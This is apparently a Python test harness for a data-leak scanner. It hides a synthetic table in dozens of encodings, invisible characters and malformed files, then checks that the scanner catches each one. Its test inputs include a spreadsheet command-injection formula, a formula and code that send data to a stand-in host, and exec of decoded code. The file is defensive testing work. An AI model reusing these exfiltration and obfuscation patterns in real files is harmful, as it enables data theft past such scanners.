#!/usr/bin/python3
"""Every technique of hiding in plain formats, applied to plain files, has to be found under its id at its place.

Makes tables, texts, JSON, notebooks and source files as people's programs write them, applies each technique to each
kind it fits, lets `shareguard scan` judge all of them, and holds its findings against what was hidden. The files as they
were made have to pass.
"""

import base64
import binascii
import bz2
import csv
import gzip
import io
import json
import lzma
import random
import subprocess
import sys
import tempfile
import zipfile
import zlib
from pathlib import Path

import run

SECRET = ("".join(f"{number:06d},{(number * 7919) % 100}.{number % 10},{'MF'[number % 2]}\n" for number in range(60))).encode()
POLICIES = {"py": "ingress-code", "r": "ingress-code", "ipynb": "ingress-code", "sh": "ingress-code", "js": "ingress-code"}


# --- the files as they are --------------------------------------------------------------------------------------------

def table(delimiter):
    chance = random.Random(5)
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\n")
    writer.writerow(["site", "arm", "age_mean", "age_sd", "hazard_ratio", "p_value", "comment"])
    for site in range(120):
        writer.writerow([f"S{site:03d}", chance.choice(["treated", "control"]), round(chance.gauss(61, 8), 1),
                         round(chance.uniform(4, 12), 2), round(chance.lognormvariate(0, 0.3), 3),
                         round(chance.random(), 4), chance.choice(["", "as planned", "two visits missed"])])
    return out.getvalue()


WORDS = ("the model was fitted to all sites and its residuals were looked at by arm age and follow up none of them showed a "
         "trend that would change what is said here results by site are in the table").split()


def prose():
    chance = random.Random(6)
    lines = []
    for _ in range(12):
        sentences = [" ".join(chance.choices(WORDS, k=chance.randint(8, 18))).capitalize() + "." for _ in range(6)]
        line = ""
        for word in " ".join(sentences).split():
            if len(line) + len(word) > 88:
                lines.append(line)
                line = ""
            line = f"{line} {word}".strip()
        lines += [line, ""]
    return "\n".join(lines) + "\n"


def document():
    chance = random.Random(7)
    return json.dumps({"model": "cox", "sites": [{"name": f"S{site:03d}", "n_visits": chance.randint(20, 400),
                                                  "ratio": round(chance.random() * 3, 4)} for site in range(60)],
                       "notes": ["fitted on all sites", "residuals show no trend"]}, indent=2) + "\n"


PYTHON = '''"""Fits the model and writes the table."""
import math
import statistics

# The words socket and subprocess stand only here.
LABEL = "requests.get"


def ratio(values):
    """The mean over the median."""
    return statistics.mean(values) / max(statistics.median(values), 1e-9)


if __name__ == "__main__":
    print(ratio([math.sqrt(number) for number in range(1, 100)]), LABEL)
'''
R_SCRIPT = '''# Fits the model; system() is not called.
library(survival)
fit <- function(data) {
  model <- coxph(Surv(time, status) ~ arm, data = data)
  summary(model)$coefficients["arm", "exp(coef)"]
}
label <- "library(httr)"
'''


def notebook():
    return json.dumps({"cells": [
        {"cell_type": "markdown", "metadata": {}, "source": ["# Results\n", "By site."]},
        {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": PYTHON.splitlines(True)}],
        "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"},
                     "language_info": {"name": "python", "version": "3.11.2"}},
        "nbformat": 4, "nbformat_minor": 5}, indent=1) + "\n"


def originals():
    return {"txt": prose(), "md": "# Report\n\n" + prose(), "csv": table(","), "tsv": table("\t"), "json": document(),
            "py": PYTHON, "r": R_SCRIPT, "ipynb": notebook()}


# --- the techniques ---------------------------------------------------------------------------------------------------

TECHNIQUES = []
TEXT = ("txt", "md", "csv", "tsv")


def technique(name, title, finds, kinds, may_pass=False):
    """`change` takes the text and gives (bytes, first offset, last offset) of what it hid."""
    def register(change):
        TECHNIQUES.append((name, title, finds, kinds, may_pass, change))
        return change
    return register


def inserted(text, extra, fraction=0.5, encoding="utf-8"):
    """`extra` on lines of its own, about there."""
    at = text.index("\n", int(len(text) * fraction)) + 1
    before = text[:at].encode(encoding)
    extra = extra if isinstance(extra, bytes) else extra.encode(encoding)
    return before + extra + text[at:].encode(encoding), len(before), len(before) + len(extra)


def wrapped(data, width=76):
    data = data.decode() if isinstance(data, bytes) else data
    return "\n".join(data[at:at + width] for at in range(0, len(data), width)) + "\n"


def sprinkled(text, signs, data=b"a secret of some bytes", limit=10 ** 9):
    """Bits of `data` as one of two signs after each word."""
    bits = [(byte >> bit) & 1 for byte in data for bit in range(8)][:limit]
    words = text.split(" ")
    out = [word + (signs[bits[number]] if number < len(bits) else "") for number, word in enumerate(words)]
    changed = " ".join(out).encode()
    return changed, len(words[0]), len(changed)


def encoded(name, title, encode, finds):
    """An encoding of SECRET: in one line and wrapped."""
    @technique(f"text-{name}", f"{title}, in one line", finds, ("txt", "md"))
    def line(text):
        return inserted(text, encode(SECRET).replace("\n", "") + "\n")

    @technique(f"text-{name}-wrapped", f"{title}, in lines", finds, ("txt", "md"))
    def block(text):
        return inserted(text, wrapped(encode(SECRET).replace("\n", "")))
    return line, block


ENCODED = ("text.encoded", "text.encoded_file")
encoded("base64", "base64", lambda data: base64.b64encode(data).decode(), ENCODED)
encoded("base64url", "base64 for URLs", lambda data: base64.urlsafe_b64encode(data).decode(), ENCODED)
encoded("base32", "base32", lambda data: base64.b32encode(data).decode(), ENCODED)
encoded("hex", "hexadecimal", lambda data: data.hex(), ENCODED)
encoded("hex-upper", "hexadecimal in capitals", lambda data: data.hex().upper(), ENCODED)
encoded("ascii85", "ascii85", lambda data: base64.a85encode(zlib.compress(data)).decode(), ENCODED)
encoded("base85", "base85", lambda data: base64.b85encode(zlib.compress(data)).decode(), ENCODED)
encoded("gzip", "base64 of a gzip file", lambda data: base64.b64encode(gzip.compress(data)).decode(), ("text.encoded_file",))
encoded("bzip2", "base64 of a bzip2 file", lambda data: base64.b64encode(bz2.compress(data)).decode(), ("text.encoded_file",))
encoded("xz", "base64 of an xz file", lambda data: base64.b64encode(lzma.compress(data)).decode(), ("text.encoded_file",))
encoded("percent", "percent-encoding of every byte", lambda data: "".join(f"%{byte:02x}" for byte in data), ENCODED)


def zipped():
    shelf = io.BytesIO()
    with zipfile.ZipFile(shelf, "w", zipfile.ZIP_DEFLATED) as container:
        container.writestr("a.csv", SECRET)
    return shelf.getvalue()


@technique("text-zip-hex", "hexadecimal of a ZIP", ("text.encoded_file",), ("txt", "md"))
def zip_hex(text):
    return inserted(text, wrapped(zipped().hex()))


def dumped(*options):
    """What od makes of a packed file."""
    return subprocess.run(["od", *options], input=zlib.compress(SECRET * 4), capture_output=True, check=True).stdout


@technique("text-dump-hex", "a file as od -tx1 dumps it", ENCODED, TEXT)
def dump_hex(text):
    return inserted(text, dumped("-Ax", "-tx1"))


@technique("text-dump-text", "a file as od -tx1z dumps it, with a column of text", ENCODED, TEXT)
def dump_text(text):
    return inserted(text, dumped("-Ax", "-tx1z"))


@technique("text-dump-words", "a file as od -tx4 dumps it", ENCODED, TEXT)
def dump_words(text):
    return inserted(text, dumped("-tx4"))


@technique("text-dump-octal", "a file as od dumps it", ENCODED, TEXT)
def dump_octal(text):
    return inserted(text, dumped())


@technique("text-dump-plain", "a table as od -tx1 dumps it", ENCODED, ("txt", "md"))
def dump_plain(text):
    return inserted(text, subprocess.run(["od", "-tx1"], input=SECRET, capture_output=True, check=True).stdout)


@technique("text-dump-zip", "a ZIP as xxd dumps it", ("text.encoded_file",), ("txt", "md"))
def dump_zip(text):
    data = zipped()
    lines = (f"{at:08x}: " + " ".join(data[at + k:at + k + 2].hex() for k in range(0, 16, 2)).ljust(41) +
             "".join(chr(byte) if 32 <= byte < 127 else "." for byte in data[at:at + 16])
             for at in range(0, len(data), 16))
    return inserted(text, "\n".join(lines) + "\n")


@technique("text-bytes-literal", "a file as the escapes of a program", ENCODED, ("txt", "md"))
def bytes_literal(text):
    return inserted(text, "".join(f"\\x{byte:02x}" for byte in zlib.compress(SECRET * 4)) + "\n")


@technique("text-base64-groups", "base64 in groups of five", ENCODED, ("txt", "md"))
def base64_groups(text):
    data = base64.b64encode(zlib.compress(SECRET * 4)).decode()
    groups = [data[at:at + 5] for at in range(0, len(data), 5)]
    return inserted(text, "\n".join(" ".join(groups[at:at + 12]) for at in range(0, len(groups), 12)) + "\n")


@technique("text-uuencode", "a uuencoded file", ENCODED, ("txt", "md"))
def uuencode(text):
    body = b"".join(binascii.b2a_uu(SECRET[at:at + 45]) for at in range(0, len(SECRET), 45))
    return inserted(text, b"begin 644 a.csv\n" + body + b"`\nend\n")


# A table, packed: long enough for what is told by how often each value is there.
PACKED = zlib.compress("".join(f"{number * 7919 % 99991},{number * 104729 % 1009}\n" for number in range(600)).encode())


def numbered(name, title, form, width=16):
    """Each byte as a number, of packed data and of a table."""
    def lines(data):
        return "\n".join("".join(form(byte) for byte in data[at:at + width]) for at in range(0, len(data), width)) + "\n"

    @technique(f"text-{name}", title, ENCODED, ("txt", "md"))
    def packed(text):
        return inserted(text, lines(PACKED))

    @technique(f"text-{name}-of-text", f"{title}, of a table", ENCODED, ("txt", "md"))
    def plain(text):
        return inserted(text, lines(SECRET))
    return packed, plain


numbered("bytes-decimal", "bytes as decimal numbers", lambda byte: f"{byte}, ")
numbered("bytes-padded", "bytes as od -tu1 writes them", lambda byte: f"{byte:4d}")
numbered("bytes-signed", "bytes as numbers with a sign", lambda byte: f"{byte - 256 if byte > 127 else byte},")
numbered("bytes-binary", "bytes as binary numbers", lambda byte: f"{byte:08b} ", 6)
numbered("references", "bytes as references to characters", lambda byte: f"&#{byte};")
numbered("references-hex", "bytes as references in hexadecimal", lambda byte: f"&#x{byte:x};")
numbered("code-points", "bytes as code points", lambda byte: f"U+{byte:04X} ")


def worded(width, order):
    """Bytes as words of so many, in decimals and as the constants of a program."""
    def words(data):
        whole = len(data) // width * width
        return [int.from_bytes(data[at:at + width], order) for at in range(0, whole, width)]

    def listed(items, a_line):
        return "".join(", ".join(items[at:at + a_line]) + ",\n" for at in range(0, len(items), a_line))

    for name, title, data in (("", "a packed file", PACKED), ("-of-text", "a table", SECRET)):
        @technique(f"text-words-{8 * width}{name}", f"{title} as decimal numbers of {8 * width} bits", ENCODED, ("txt", "md"))
        def decimal(text, data=data):
            return inserted(text, listed([str(word) for word in words(data)], 8))

        @technique(f"text-constants-{8 * width}{name}", f"{title} as constants of {8 * width} bits", ENCODED, ("txt", "md"))
        def constants(text, data=data):
            return inserted(text, listed([f"0x{word:0{2 * width}X}UL" for word in words(data)], 4))


worded(2, "little")
worded(4, "big")
worded(8, "little")


@technique("text-digits", "the digits of a file as an integer, one by one", ENCODED, ("txt", "md"))
def single_digits(text):
    return inserted(text, "\n".join(",".join(line) for line in wrapped(str(int.from_bytes(PACKED[:1000], "big")), 40).split()) + "\n")


@technique("text-assembler", "bytes as an assembler writes them", ENCODED, ("txt", "md"))
def assembler(text):
    return inserted(text, "".join("db " + ", ".join(f"0{byte:02x}h" for byte in PACKED[at:at + 12]) + "\n"
                                  for at in range(0, len(PACKED), 12)))


@technique("text-base45", "base45", ENCODED, ("txt", "md"))
def base45(text):
    signs = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ $%*+-./:"
    pairs = [PACKED[at] * 256 + PACKED[at + 1] for at in range(0, len(PACKED) - 1, 2)]
    return inserted(text, wrapped("".join(signs[pair // 45 ** place % 45] for pair in pairs for place in range(3))))


@technique("text-percent-letters", "a table as queries of addresses, each letter percent-encoded", ENCODED, ("txt", "md"))
def percent_letters(text):
    pieces = [SECRET[at:at + 36] for at in range(0, len(SECRET), 36)]
    return inserted(text, "".join("as in https://a.example/?q=" + "".join(f"%{byte:02x}" for byte in piece) + " of May\n"
                                  for piece in pieces))


@technique("text-case", "bits as capitals and small letters", ENCODED, ("txt", "md"))
def letter_case(text):
    chance = random.Random(4)
    return inserted(text, "".join(chance.choice((sign.upper(), sign.lower())) for sign in prose()))


@technique("text-names-hex", "a table as what look like digests of files", ENCODED, ("txt", "md"))
def names_hex(text):
    return inserted(text, "".join(f"{SECRET[at:at + 32].hex()}  part{at}.csv\n" for at in range(0, len(SECRET) - 32, 32)))


@technique("text-uuids", "a table as what look like UUIDs", ENCODED, ("txt", "md"))
def identifiers(text):
    groups = [SECRET[at:at + 16].hex() for at in range(0, len(SECRET) - 16, 16)]
    return inserted(text, "".join(f"- {one[:8]}-{one[8:12]}-{one[12:16]}-{one[16:20]}-{one[20:]}\n" for one in groups))


@technique("text-quoted-printable", "quoted-printable", ENCODED, ("txt", "md"))
def quoted_printable(text):
    return inserted(text, binascii.b2a_qp(PACKED, quotetabs=True, istext=False) + b"\n")


@technique("text-uuencode-short", "a uuencoded file in short lines", ENCODED, ("txt", "md"))
def uuencode_short(text):
    body = b"".join(binascii.b2a_uu(PACKED[at:at + 20]) for at in range(0, len(PACKED), 20))
    return inserted(text, b"begin 644 a.csv\n" + body + b"`\nend\n")


@technique("text-integer", "a file as one long integer", ENCODED, ("txt", "md"))
def integer(text):
    return inserted(text, f"{int.from_bytes(PACKED[:300], 'big')}\n")


@technique("text-integer-hex", "a file as one long integer in hexadecimal", ENCODED, ("txt", "md"))
def integer_hex(text):
    return inserted(text, f"{int.from_bytes(PACKED[:300], 'big'):#x}\n")


def alphabet(name, title, sign, width):
    """`width` bits as a sign of another script."""
    @technique(f"text-{name}", title, ENCODED, ("txt", "md"))
    def spelt(text):
        bits = "".join(f"{byte:08b}" for byte in PACKED)
        values = [int(bits[at:at + width], 2) for at in range(0, len(bits) - width + 1, width)]
        return inserted(text, wrapped("".join(chr(sign + value) for value in values), 60))
    return spelt


@technique("text-blocks", "bits as white and black blocks", ENCODED, ("txt", "md"))
def blocks(text):
    bits = "".join(f"{byte:08b}" for byte in PACKED)
    return inserted(text, wrapped(bits.replace("0", "\u2591").replace("1", "\u2588"), 64))


alphabet("bars", "three bits a bar", 0x2581, 3)
alphabet("braille", "bytes as braille", 0x2800, 8)
alphabet("ideographs", "fourteen bits an ideograph", 0x4E00, 14)
alphabet("full-width", "five bits a letter of full width", 0xFF21, 5)
alphabet("cyrillic", "six bits a letter of Cyrillic", 0x410, 6)


@technique("text-yenc", "a yEnc file", ENCODED + ("text.control", "text.encoding", "text.mixed_encoding"), ("txt",))
def yenc(text):
    body = bytearray()
    for byte in zlib.compress(SECRET * 4):
        sign = (byte + 42) % 256
        body += bytes([61, (sign + 64) % 256]) if sign in (0, 10, 13, 61) else bytes([sign])
    lines = b"\n".join(bytes(body[at:at + 128]) for at in range(0, len(body), 128))
    return inserted(text, b"=ybegin line=128 size=%d name=a.csv\n" % len(body) + lines + b"\n=yend size=1\n")


@technique("text-data-uri", "a picture as a data: URI", ("text.data_uri",) + ENCODED, ("txt", "md"))
def data_uri(text):
    return inserted(text, "![](data:image/png;base64," + base64.b64encode(b"\x89PNG\r\n\x1a\n" + SECRET).decode() + ")\n")


@technique("text-private-key", "a private key", ("text.pem_key",), ("txt", "md"))
def private_key(text):
    return inserted(text, "-----BEGIN PRIVATE KEY-----\n" + wrapped(base64.b64encode(bytes(range(48))), 64) +
                    "-----END PRIVATE KEY-----\n")


@technique("text-pgp", "a PGP message", ("text.pgp",), ("txt", "md"))
def pgp(text):
    return inserted(text, "-----BEGIN PGP MESSAGE-----\n\n" + wrapped(base64.b64encode(SECRET), 64) +
                    "=abcd\n-----END PGP MESSAGE-----\n")


@technique("text-zero-width", "bits as zero-width characters", ("text.invisible",), TEXT)
def zero_width(text):
    return sprinkled(text, ("\u200b", "\u200c"), limit=max(1, text.count(" ") - 1))


@technique("text-tags", "a message in tag characters", ("text.tag",), TEXT)
def tags(text):
    return inserted(text, "".join(chr(0xE0000 + byte) for byte in b"a secret") + "\n")


@technique("text-variation-selectors", "bytes as variation selectors behind one sign", ("text.tag", "text.invisible"), ("txt", "md"))
def selectors(text):
    hidden = "".join(chr(0xFE00 + byte if byte < 16 else 0xE0100 + byte - 16) for byte in SECRET[:64])
    return inserted(text, "smile \u263a" + hidden + "\n")


@technique("text-bidi", "a line shown in another order", ("text.bidi",), TEXT)
def bidi(text):
    return inserted(text, "total \u202e54321\u202c\n")


@technique("text-homoglyphs", "Cyrillic letters within Latin words", ("text.mixed_script",), ("txt", "md"))
def homoglyphs(text):
    at = text.index("model")
    changed = text[:at] + text[at:].replace("o", "\u043e", 60)
    return changed.encode(), at, len(changed.encode())


@technique("text-trailing", "bits as blanks at the ends of lines", ("text.trailing_space",), ("txt",))
def trailing(text):
    bits = "".join(f"{byte:08b}" for byte in SECRET)
    lines = text.split("\n")
    out = "\n".join(line + "".join(" \t"[int(bit)] for bit in bits[number * 8:number * 8 + 8])
                    for number, line in enumerate(lines))
    return out.encode(), 0, len(out)


@technique("text-long-line", "two megabytes in one line", ("text.long_line",), ("txt", "md"))
def long_line(text):
    return inserted(text, "the results by site " * 100000 + "\n")


@technique("text-nul", "NUL bytes", ("text.nul", "type.mismatch"), TEXT)
def nul(text):
    return inserted(text, b"\0")


@technique("text-control", "control characters", ("text.control",), TEXT)
def control(text):
    return inserted(text, b"\x1b[8m\x01\x02\n")


@technique("text-mixed-encoding", "bytes that are not UTF-8 in a text that is", ("text.mixed_encoding",), ("txt", "md"))
def mixed(text):
    return inserted(text.replace("the", "th\u00e9", 3), b"\xff\xfe\xe9 caf\xe9\n")


@technique("text-behind-zero", "a file behind the text", ("text.nul", "type.mismatch", "text.control"), TEXT)
def behind(text):
    packed = gzip.compress(SECRET)
    return text.encode() + packed, len(text), len(text) + len(packed)


def cells(text, column, make):
    """The cells of a column, replaced by what `make` gives for their number."""
    delimiter = "\t" if "\t" in text else ","
    rows = [line.split(delimiter) for line in text.split("\n")[:-1]]
    for number, row in enumerate(rows[1:]):
        row[column] = make(number, row[column])
    out = "\n".join(delimiter.join(row) for row in rows) + "\n"
    return out.encode(), 0, len(out)


@technique("table-formula", "a cell that starts a program", ("table.formula",), ("csv", "tsv"))
def formula(text):
    return cells(text, 6, lambda number, cell: "=cmd|' /C calc'!A0" if number == 50 else cell)


@technique("table-formula-link", "a cell that fetches", ("table.formula",), ("csv", "tsv"))
def formula_link(text):
    return cells(text, 6, lambda number, cell: "=HYPERLINK(\"http://a.example/?x=\"&A1)" if number == 5 else cell)


@technique("table-base64-column", "a file cut into the cells of a column", ("table.encoded_column",) + ENCODED, ("csv", "tsv"))
def base64_column(text):
    data = base64.b64encode(zlib.compress(bytes(random.Random(1).randbytes(4000)))).decode()
    return cells(text, 6, lambda number, cell: data[number * 24:number * 24 + 24])


@technique("table-hex-column", "a file as hexadecimal in a column", ("table.encoded_column",) + ENCODED, ("csv", "tsv"))
def hex_column(text):
    data = random.Random(2).randbytes(4000).hex()
    return cells(text, 6, lambda number, cell: data[number * 28:number * 28 + 28])


@technique("table-digits", "a message in digits nobody measured", ("table.excess_digits",), ("csv", "tsv"))
def digits(text):
    chance = random.Random(3)
    return cells(text, 4, lambda number, cell: cell + "".join(chance.choices("0123456789", k=24)))


@technique("table-long-cell", "a file in one cell", ("table.long_cell", "text.encoded", "text.encoded_file"), ("csv", "tsv"))
def long_cell(text):
    return cells(text, 6, lambda number, cell: "as planned " * 4000 if number == 7 else cell)


@technique("table-small-cells", "counts of few people", ("table.small_cells",), ("csv",))
def small_cells(_):
    out = "ward,diagnosis,n\n" + "".join(f"W{ward},{name},{(ward * 13 + len(name)) % 40}\n" for ward in range(20)
                                          for name in ("asthma", "copd", "stroke"))
    return out.encode(), 0, len(out)


@technique("table-unclosed", "cells behind a quote that is never closed", ("table.malformed",), ("csv",))
def unclosed(text):
    return text.replace(",two visits missed", ",\"two visits missed", 1).encode(), 0, len(text) + 1


@technique("json-duplicate", "a member that another of its name hides", ("json.duplicate_key",), ("json",))
def duplicate(text):
    out = text.replace('"model": "cox"', '"model": "hidden", "model": "cox"')
    return out.encode(), 0, 80


@technique("json-base64", "a file in a string", ("json.encoded_string",) + ENCODED, ("json",))
def json_base64(text):
    out = text.replace("fitted on all sites", base64.b64encode(gzip.compress(SECRET)).decode())
    return out.encode(), 0, len(out)


@technique("json-depth", "arrays in arrays", ("json.depth",), ("json",))
def json_depth(text):
    out = text.replace('"cox"', "[" * 400 + "]" * 400)
    return out.encode(), 0, 1000


@technique("json-behind", "text behind the value", ("json.malformed", "json.nonstandard"), ("json",))
def json_behind(text):
    out = text + "what nobody reads\n"
    return out.encode(), len(text), len(out)


@technique("json-comment", "a comment", ("json.nonstandard",), ("json",))
def json_comment(text):
    out = text.replace("{\n", "{ /* what nobody reads */\n", 1)
    return out.encode(), 0, 40


@technique("json-surrogate", "half characters", ("json.surrogate",), ("json",))
def json_surrogate(text):
    out = text.replace("fitted", "\\ud83d\\ud83d")
    return out.encode(), 0, len(out)


@technique("json-escapes", "a table in escapes of its letters", ("json.encoded_string",) + ENCODED, ("json",))
def json_escapes(text):
    out = text.replace("fitted on all sites", " and ".join("".join(f"\\u{byte:04x}" for byte in SECRET[at:at + 5])
                                                           for at in range(0, 200, 5)))
    return out.encode(), 0, len(out)


@technique("json-words", "a packed file as numbers of 32 bits", ENCODED, ("json",))
def json_words(text):
    words = [int.from_bytes(PACKED[at:at + 4], "big") for at in range(0, len(PACKED) - 3, 4)]
    out = text.replace('"cox"', json.dumps(words))
    return out.encode(), 0, len(out)


@technique("json-names", "a file as the names of members", ("json.encoded_string",) + ENCODED, ("json",))
def json_names(text):
    signs = base64.b64encode(PACKED).decode()
    names = ",\n".join(f'    "{signs[at:at + 30]}": 1' for at in range(0, len(signs) - 30, 30))
    out = text.replace("{\n", '{\n  "index": {\n' + names + "\n  },\n", 1)
    return out.encode(), 0, len(out)


def people(header, rows):
    out = header + "\n" + "\n".join(rows) + "\n"
    return out.encode(), 0, len(out)


def nhs_number(seed):
    """A number of the range for tests (999 ...) with its check digit; ISB 0149."""
    while True:
        body = f"999{seed % 1000000:06d}"
        check = 11 - sum(int(digit) * (10 - at) for at, digit in enumerate(body)) % 11
        if check != 10:
            return body + str(0 if check == 11 else check)
        seed += 1


@technique("person-nhs", "NHS numbers in a column", ("person.nhs_number",), ("csv", "txt"))
def person_nhs(text):
    return people("id,value", [f"{nhs_number(seed * 37)},{seed}" for seed in range(40)])


@technique("person-nhs-spaced", "NHS numbers as they are printed", ("person.nhs_number",), ("txt",))
def person_nhs_spaced(text):
    numbers = [nhs_number(seed * 91) for seed in range(10)]
    return inserted(text, "".join(f"seen: {one[:3]} {one[3:6]} {one[6:]}\n" for one in numbers))


@technique("person-ni", "National Insurance numbers", ("person.ni_number",), ("txt", "csv"))
def person_ni(text):
    return people("a,b", [f"AB {seed:02d} 34 {seed:02d} C,1" for seed in range(10, 30)])


@technique("person-card", "numbers of payment cards", ("person.card",), ("txt",))
def person_card(text):
    return inserted(text, "4111 1111 1111 1111\n5500 0000 0000 0004\n3400 0000 0000 009\n6011 0000 0000 0004\n")


@technique("person-iban", "an IBAN", ("person.iban",), ("txt",))
def person_iban(text):
    return inserted(text, "paid to GB82 WEST 1234 5698 7654 32 in May\n")


@technique("person-birth", "dates of birth", ("person.birth_date", "person.column"), ("csv",))
def person_birth(text):
    return people("site,dob", [f"S{day},{day:02d}/07/19{40 + day}" for day in range(1, 28)])


@technique("person-postcode", "postcodes", ("person.postcode",), ("txt",))
def person_postcode(text):
    return inserted(text, "SW1A 1AA\nEH1 1YZ\nM1 1AE\nB33 8TH\nCR2 6XH\nDN55 1PT\nLS1 4AP\n")


@technique("person-email", "addresses", ("person.email",), ("txt",))
def person_email(text):
    return inserted(text, "".join(f"patient{number}@hospital.example.org\n" for number in range(40)))


@technique("person-phone", "telephone numbers", ("person.phone",), ("txt",))
def person_phone(text):
    return inserted(text, "".join(f"+44 20 7946 0{number:03d}\n" for number in range(40)))


def parted(name, title, gap):
    """NHS numbers with something between their groups."""
    @technique(f"person-nhs-{name}", f"NHS numbers parted by {title}", ("person.nhs_number",), ("txt",))
    def numbers(text):
        made = [nhs_number(seed * 91) for seed in range(10)]
        return inserted(text, "".join(f"seen: {one[:3]}{gap}{one[3:6]}{gap}{one[6:]}\n" for one in made))
    return numbers


parted("no-break", "blanks that do not break", "\u00a0")
parted("hyphens", "hyphens that do not break", "\u2011")
parted("dashes", "en dashes", "\u2013")
parted("points", "points", ".")
parted("slashes", "slashes", "/")
parted("lines", "low lines", "_")
parted("colons", "colons", ":")
parted("tabs", "tabs", "\t")
parted("middle-dots", "middle dots", "\u00b7")


@technique("person-nhs-named", "NHS numbers behind a letter", ("person.nhs_number",), ("txt", "csv"))
def person_nhs_named(text):
    return people("id,value", [f"P{nhs_number(seed * 37)},{seed}" for seed in range(40)])


@technique("person-phone-points", "telephone numbers with points", ("person.phone",), ("txt",))
def person_phone_points(text):
    return inserted(text, "".join(f"07700.900.{number:03d} or +44.20.7946.0{number:03d}\n" for number in range(40)))


@technique("person-card-points", "numbers of payment cards with points", ("person.card",), ("txt",))
def person_card_points(text):
    return inserted(text, "4111.1111.1111.1111\n5500.0000.0000.0004\n6011.0000.0000.0004\n")


@technique("person-iban-dashes", "an IBAN with dashes", ("person.iban",), ("txt",))
def person_iban_dashes(text):
    return inserted(text, "paid to GB82-WEST-1234-5698-7654-32 in May\n")


@technique("person-nhs-full-width", "NHS numbers in digits of full width", ("person.nhs_number",), ("txt",))
def person_nhs_full_width(text):
    wide = {ord("0") + digit: 0xFF10 + digit for digit in range(10)}
    return inserted(text, "".join(f"seen: {nhs_number(seed * 91)}\n".translate(wide) for seed in range(10)))


@technique("person-birth-blanks", "dates of birth with blanks", ("person.birth_date",), ("txt",))
def person_birth_blanks(text):
    return inserted(text, "".join(f"born {day} 05 1980\n" for day in range(10, 28)))


@technique("person-columns", "columns that say who it is", ("person.column",), ("csv",))
def person_columns(text):
    return people("patient_id,surname,forename,value", [f"{row},x,y,{row * 3}" for row in range(30)])


def code(name, title, finds, kind, extra, may_pass=False):
    """`may_pass`: what research code does every day is on record, and passes."""
    @technique(f"code-{name}", title, finds, (kind,), may_pass)
    def add(text):
        body = text.encode()
        return body + extra.encode(), len(body), len(body) + len(extra)
    return add


code("python-socket", "a socket under another name", ("code.networking",), "py", "import socket as s\ns.create_connection(('a', 1))\n")
code("python-from", "a call imported under another name", ("code.networking",), "py", "from urllib.request import urlopen as u\nu('http://a.example')\n",
     may_pass=True)
code("python-dynamic", "a module imported by a call", ("code.networking", "code.obfuscation"), "py", "m = __import__('requests')\nm.post('http://a.example', data=LABEL)\n",
     may_pass=True)
code("python-eval", "a decoded string that is run", ("code.obfuscation",), "py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n")
code("python-pickle", "a byte string of a file", ("code.blob",), "py", "DATA = '" + base64.b64encode(gzip.compress(SECRET)).decode() + "'\n")
code("python-escapes", "a byte string of escapes", ("code.blob", "code.obfuscation"), "py",
     "DATA = b'" + "".join(f"\\x{byte:02x}" for byte in gzip.compress(SECRET)) + "'\n",
     may_pass=True)
code("python-stego", "a library that hides data in pictures", ("code.steganography",), "py", "from stegano import lsb\nlsb.hide('a.png', 'x')\n")
code("python-chr", "a module whose name is spelt as numbers", ("code.obfuscation",), "py", "__import__(chr(111) + chr(115))\n")
code("python-bytes", "a module whose name is a list of bytes", ("code.obfuscation",), "py", "__import__(bytes([111, 115]).decode())\n")
code("python-runpy", "a module that is run", ("code.networking",), "py", "import runpy\nrunpy.run_module('http.server')\n")
code("python-vars", "a function out of a module's table", ("code.processes",), "py", "import os\nvars(os)['system']('ls')\n",
     may_pass=True)
code("python-words", "a packed file as numbers of 32 bits", ("code.blob",), "py", "DATA = [" + ", ".join(
    str(int.from_bytes(PACKED[at:at + 4], "big")) for at in range(0, len(PACKED) - 3, 4)) + "]\n", may_pass=True)
code("r-name", "a call put together of a name", ("code.processes",), "r", "eval(as.call(list(as.name('system'), 'ls')))\n", may_pass=True)
code("r-apply", "a function by its name", ("code.processes",), "r", "lapply(files, 'system')\n", may_pass=True)
code("r-httr", "a request", ("code.networking",), "r", "httr::POST('http://a.example', body = label)\n")
code("r-eval", "a decoded text that is run", ("code.obfuscation",), "r", "eval(parse(text = rawToChar(base64enc::base64decode('eA=='))))\n")


# --- the run ----------------------------------------------------------------------------------------------------------

def make_cases(folder, only):
    """Writes the files; {policy: [case]}."""
    cases = {}
    files = originals()
    for kind, text in files.items():
        policy = POLICIES.get(kind, "egress-strict")
        (folder / policy).mkdir(exist_ok=True)
        name = f"{kind}-control.{kind}"
        (folder / policy / name).write_text(text)
        cases.setdefault(policy, []).append(run.Case(name, (), [], True))
        for title, _, finds, kinds, may_pass, change in TECHNIQUES:
            if kind not in kinds or only not in title:
                continue
            content, low, high = change(text)
            name = f"{kind}-{title}.{kind}"
            (folder / policy / name).write_bytes(content)
            cases[policy].append(run.Case(name, (title,), [(finds, [("", low, high)])], may_pass))
    return cases


def main():
    arguments = run.parse_arguments()
    with tempfile.TemporaryDirectory(prefix=f"shareguard-test.{run.os.getpid()}.") as scratch:
        folder = arguments.keep or Path(scratch)
        folder.mkdir(exist_ok=True)
        cases = make_cases(folder, arguments.only)
        if arguments.make_only:
            return 0
        wrong, files = [], 0
        for policy, made in cases.items():
            answers = run.scan(arguments, folder / policy, policy)
            for case in made:
                files += 1
                answer = answers[case.name]
                problems = run.misses(case, answer)
                if not case.techniques and answer["verdict"] != "allow":
                    problems.append("a plain file is not allowed: " + ", ".join(one["id"] for one in answer["findings"]))
                wrong += [f"{case.name}: {problem}" for problem in problems]
    print("\n".join(wrong))
    print(f"plain: {len(TECHNIQUES)} techniques, {files} files, {len(wrong)} missed or wrong")
    return 1 if wrong else 0


if __name__ == "__main__":
    sys.exit(main())
